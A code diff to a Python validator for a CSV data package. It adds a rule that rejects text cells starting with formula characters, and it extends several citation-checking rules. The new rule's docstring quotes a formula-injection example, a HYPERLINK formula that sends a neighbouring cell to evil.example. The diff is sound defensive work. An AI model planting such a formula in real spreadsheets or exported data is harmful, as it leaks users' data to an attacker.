@@ -98,6 +98,33 @@ def clean_text(frames: Frames) -> Found:
             yield name, fld.name, raw.select(expr.fill_null(False)).to_series()
 
 
+def _text_fields(package: Package) -> Iterator[tuple[str, str]]:
+    """Every text field (type string), as (table, field)."""
+    for table in package.tables.values():
+        for fld in table.fields:
+            if fld.type == "string":
+                yield table.name, fld.name
+
+
+FORMULA_START = r"^[=+\-@\t\r]"
+
+
+@rule(targets=_text_fields, describe=lambda fld, value: f"{fld.name} starts with {str(value)[:1]!r}, which a "
+      "spreadsheet opening the CSV runs as a formula")
+def no_formula_text(frames: Frames) -> Found:
+    """No text cell starts with '=', '+', '-', '@', tab or CR.
+
+    Why: the CSV files are shipped as they are, and a spreadsheet that opens one runs such a cell
+    as a formula (``=HYPERLINK("http://evil.example/?leak="&A2,"x")`` sends a neighbouring cell
+    away when clicked). Escaping it in the release would change the data everyone reads back, so
+    validation refuses it instead (README, Security)."""
+    import polars as pl
+
+    for table, name in _text_fields(frames.package):
+        if table in frames.raw:
+            yield table, name, frames.raw[table].select(pl.col(name).str.contains(FORMULA_START)).to_series()
+
+
 @rule(STATES, targets=("states.state_id",))
 def state_codes_are_iso3166(frames: Frames) -> Found:
     """A state code is a real ISO 3166-1 alpha-3 code."""
@@ -284,7 +311,7 @@ def is_inference_flag(fld: Field) -> bool:
     return fld.type == "boolean" and fld.name.startswith("is_") and fld.name.endswith("_inferred")
 
 
-@rule("*", targets=lambda package: ((t.name, t.primary_key[0]) for t in _keyed(package)))
+@rule("*", CITATIONS, targets=lambda package: ((t.name, t.primary_key[0]) for t in _keyed(package)))
 def record_is_cited(frames: Frames) -> Found:
     """Every record of every table (but citations) is cited at least once: a fact without a source
     cannot be checked."""
@@ -296,7 +323,8 @@ def record_is_cited(frames: Frames) -> Found:
         yield name, frames.table(name).primary_key[0], ~frames.keys(name).is_in(cited.implode())
 
 
-@rule("*", targets=lambda package: ((t.name, NOTE) for t in package.tables.values() if NOTE in t.field_names))
+@rule("*", CITATIONS,
+      targets=lambda package: ((t.name, NOTE) for t in package.tables.values() if NOTE in t.field_names))
 def inference_is_explained(frames: Frames) -> Found:
     """A record that marks a value as inferred (an ``is_*_inferred`` flag set, or an ``inferred``
     citation) explains the inference in its inference_note."""
@@ -317,7 +345,7 @@ def inference_is_explained(frames: Frames) -> Found:
         yield name, NOTE, needs & (raw[NOTE].fill_null("").str.strip_chars() == "")
 
 
-@rule("*", targets=("citations.record_id",))
+@rule("*", CITATIONS, targets=("citations.record_id",))
 def citation_record_exists(frames: Frames) -> Found:
     """A citation points to a record that exists (table_name + record_id)."""
     import polars as pl
